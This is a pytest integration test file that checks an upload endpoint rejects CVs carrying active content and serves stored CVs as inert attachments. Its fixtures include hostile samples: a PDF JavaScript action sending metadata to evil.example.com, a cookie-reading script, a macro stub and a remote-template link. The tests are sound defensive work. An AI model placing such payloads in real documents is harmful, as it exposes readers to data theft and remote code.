"""A CV with active content is refused at the door, and a stored CV downloads as an inert attachment."""

from __future__ import annotations

import pytest

from tests.support.auth import bearer
from tests.support.cvs import PDF, docx, pdf, relationships

pytestmark = pytest.mark.integration

REMOTE_TEMPLATE = relationships(("attachedTemplate", "https://evil.example.com/cv.dotm", "External"))
JAVASCRIPT = b"<< /S /JavaScript /JS (app.launchURL('https://evil.example.com/' + this.info.Author)) >>"


@pytest.mark.parametrize(
    ("cv", "why"),
    [
        (pdf(catalog=b"/OpenAction " + JAVASCRIPT), "This PDF contains active content (JavaScript)"),
        (b"%PDF-1.7\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n", "not a readable PDF"),
        (docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 AutoOpen"}), "This Word document contains macros"),
        (docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "loads content from elsewhere"),
    ],
    ids=["pdf-with-javascript", "html-in-a-pdf-shell", "docx-with-macros", "docx-with-remote-template"],
)
def test_a_cv_with_active_content_is_refused_with_422_and_nothing_is_kept(desk, app, cv, why):
    vacancy_id = desk.publish()

    response = desk.apply(vacancy_id, cv=cv)

    assert (response.status_code, response.content_type) == (422, "application/problem+json")
    assert why in response.json["detail"]
    assert [(e["field"], e["location"]) for e in response.json["errors"]] == [("cv", "files")]
    assert desk.stored() == (0, 0)
    assert not any(app.extensions["cv_storage"].root.glob("*"))  # not even a temporary file


def test_a_stored_cv_downloads_as_an_attachment_a_browser_will_not_run_or_cache(desk, client):
    desk.apply(desk.publish(), cv=PDF)
    [application_id] = desk.submitted()

    response = client.get(f"/consultant/applications/{application_id}/cv", headers=bearer())

    assert (response.status_code, response.data) == (200, PDF)
    assert response.headers["Content-Disposition"] == f'attachment; filename="cv-{application_id}.pdf"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "sandbox"
    assert response.headers["Cache-Control"] == "no-store"
